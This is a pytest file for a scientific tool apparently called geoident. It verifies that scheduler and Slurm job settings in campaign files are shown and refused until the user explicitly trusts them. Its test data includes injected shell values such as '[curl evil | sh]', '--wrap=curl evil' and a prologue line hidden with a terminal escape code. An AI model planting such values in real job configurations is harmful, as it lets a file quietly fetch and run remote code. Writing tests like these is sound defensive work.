"""What a file gives to a scheduler or to a queue system is used only when somebody has said so."""

import os
import socket
import threading
from contextlib import contextmanager
from pathlib import Path

import pytest

import geoident
from geoident.errors import ExitCode, InputError, UsageError
from tests.support.projects import example

CAMPAIGN = """\
format: geoident-campaign/1
case: case.yaml
command: simulate
variations: {product: {parameters.E.start: [3 GPa, 4 GPa]}}
"""
SLURM = "cores: 1, memory: 1 GB, interface: lo"


@pytest.fixture
def here(trench, monkeypatch, tmp_path_factory):
    """A case and a campaign; a Slurm that refuses all jobs, and writes down what it was given."""
    place = tmp_path_factory.mktemp("slurm")
    (place / "sbatch").write_text(
        f'#!/bin/sh\ncat "$1" >> {place}/jobs\necho "no such" >&2\nexit 1\n'
    )
    (place / "sbatch").chmod(0o755)
    monkeypatch.setenv("PATH", f"{place}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("XDG_STATE_HOME", str(place / "state"))
    monkeypatch.setattr("geoident.workflow.executing.connection.REACH", 0.5)
    Path("campaign.yaml").write_text(CAMPAIGN)
    return place / "jobs"


def campaign(cluster):
    Path("campaign.yaml").write_text(f"{CAMPAIGN}cluster: {{{cluster}}}\n")


@contextmanager
def somebody():
    """Listens at a port, and hangs up; gives the address, and how often somebody came."""
    came = []
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def hang_up():
            while True:
                try:
                    connection, _ = listening.accept()
                except OSError:
                    return
                came.append(1)
                connection.close()

        thread = threading.Thread(target=hang_up)
        thread.start()
        yield f"tcp://127.0.0.1:{listening.getsockname()[1]}", came
        listening.shutdown(socket.SHUT_RDWR)
        thread.join()


LINES = {
    "job_script_prologue": "[curl evil | sh]",
    "env_extra": "[curl evil | sh]",
    "job_extra_directives": "['--wrap=curl evil']",
    "shebang": "'#!curl evil'",
    "python": "curl evil",
    "worker_command": "curl evil",
    "worker_extra_args": "[--preload, curl evil]",
    "scheduler_options": "{preload: [curl evil]}",
    "log_directory": "made by curl evil",
    "job_name": "curl evil",
}


@pytest.mark.filterwarnings("ignore:env_extra has been renamed:FutureWarning")
@pytest.mark.parametrize("key", LINES)
def test_what_a_campaign_gives_to_a_queue_system_is_shown_and_not_given(here, run, key):
    campaign(f"slurm: {{{SLURM}, {key}: {LINES[key]}}}")
    refused = run("batch", "campaign.yaml")
    assert refused.exit_code == ExitCode.INVALID_INPUT, refused.output
    assert "campaign.yaml:5:" in refused.stderr
    assert (
        "submit 1 job of this kind to slurm (SLURMCluster), and it is not trusted yet"
        in refused.stderr
    )
    assert "--trust" in refused.stderr
    assert "curl evil" in refused.stderr
    assert not here.exists()
    assert not Path("made by curl evil").exists()
    assert run("batch", "campaign.yaml", "--dry-run").exit_code == ExitCode.DONE


def test_options_of_the_scheduler_that_are_no_mapping_are_refused(here, run):
    campaign(f"slurm: {{{SLURM}, scheduler_options: [--host, evil]}}")
    refused = run("batch", "campaign.yaml")
    assert "the jobs cannot be submitted: scheduler_options are no mapping" in refused.stderr
    assert refused.exit_code == ExitCode.INVALID_INPUT
    assert not here.exists()


def test_jobs_are_trusted_until_they_change(here, run):
    given = f"slurm: {{{SLURM}, job_script_prologue: [echo harmless]}}"
    campaign(given)
    tried = run("batch", "campaign.yaml", "--trust")
    assert "the jobs cannot be submitted: no such" in tried.stderr
    assert "\necho harmless\n" in here.read_text()
    assert " -P -m distributed.cli.dask_worker " in here.read_text()  # nothing of the folder there
    here.unlink()
    assert "no such" in run("batch", "campaign.yaml").stderr  # remembered
    assert here.exists()
    here.unlink()
    campaign(given.replace("harmless", "harmful"))
    assert "it is not trusted yet" in run("batch", "campaign.yaml").stderr
    assert not here.exists()


def test_on_a_terminal_the_jobs_are_shown_before_it_is_asked(here, run, monkeypatch):
    campaign(f'slurm: {{{SLURM}, job_script_prologue: ["true # \\e[8m", curl evil]}}')
    monkeypatch.setattr("geoident.cli.trust._on_terminal", lambda: True)
    asked = run("batch", "campaign.yaml", stdin="n\n")
    assert "The file has geoident submit 1 job of this kind to slurm" in asked.stderr
    assert "\n    true # \\x1b[8m\n    curl evil\n" in asked.stderr
    assert "May it?" in asked.stderr
    assert asked.exit_code == ExitCode.INVALID_INPUT
    assert not here.exists()


@pytest.mark.parametrize(
    "words",
    [("batch", "campaign.yaml"), ("fit", "case.yaml"), ("scan", "case.yaml"),
     ("backtest", "case.yaml"), ("fit", "case.yaml", "other.yaml"), ("fit", "project.yaml")],
    ids=" ".join,
)  # fmt: skip
def test_nobody_is_reached_whom_a_file_names(here, run, words):
    Path("other.yaml").write_text(Path("case.yaml").read_text())
    if "project.yaml" in words:
        example(Path())
    with somebody() as (address, came):
        Path("cluster.yaml").write_text(f"format: geoident-cluster/1\naddress: {address}\n")
        refused = run(*words, "--cluster", "cluster.yaml")
        assert refused.exit_code == ExitCode.INVALID_INPUT, refused.output
        assert (
            f"cluster.yaml:2:10: the file has geoident connect to the scheduler at {address}"
            in (refused.stderr)
        )
        assert "it is not trusted yet" in refused.stderr
        assert not came


def test_an_address_in_a_campaign_is_trusted_until_it_changes(here, run):
    with somebody() as (address, came):
        campaign(f"address: '{address}'")
        assert "it is not trusted yet" in run("batch", "campaign.yaml").stderr
        assert not came
        assert "no scheduler of dask answers" in run("batch", "campaign.yaml", "--trust").stderr
        assert came
        came.clear()
        assert "no scheduler of dask answers" in run("batch", "campaign.yaml").stderr
        assert came
    with somebody() as (address, came):
        campaign(f"address: '{address}'")
        assert "it is not trusted yet" in run("batch", "campaign.yaml").stderr
        assert not came


def test_an_address_on_the_command_line_is_the_word_of_who_calls(here, run):
    with somebody() as (address, came):
        assert (
            "no scheduler of dask answers" in run("fit", "case.yaml", "--cluster", address).stderr
        )
        assert came


def test_from_python_the_same_rules_hold(here):
    with somebody() as (address, came):
        campaign(f"address: '{address}'")
        with pytest.raises(InputError, match="it is not trusted yet") as caught:
            geoident.batch("campaign.yaml")
        assert "`geoident.trust(file)`" in str(caught.value)
        Path("cluster.yaml").write_text(f"format: geoident-cluster/1\naddress: {address}\n")
        with pytest.raises(InputError, match="it is not trusted yet"):
            geoident.fit("case.yaml", cluster="cluster.yaml")
        assert not came
        geoident.trust("cluster.yaml")
        geoident.trust("campaign.yaml")
        for call in (
            lambda: geoident.fit("case.yaml", cluster="cluster.yaml"),
            lambda: geoident.batch("campaign.yaml"),
            lambda: geoident.batch("campaign.yaml", trust=True),
        ):
            came.clear()
            with pytest.raises(InputError, match="no scheduler of dask answers"):
                call()
            assert came
    campaign("local: true")
    with pytest.raises(UsageError, match="names no scheduler and no queue system"):
        geoident.trust("campaign.yaml")
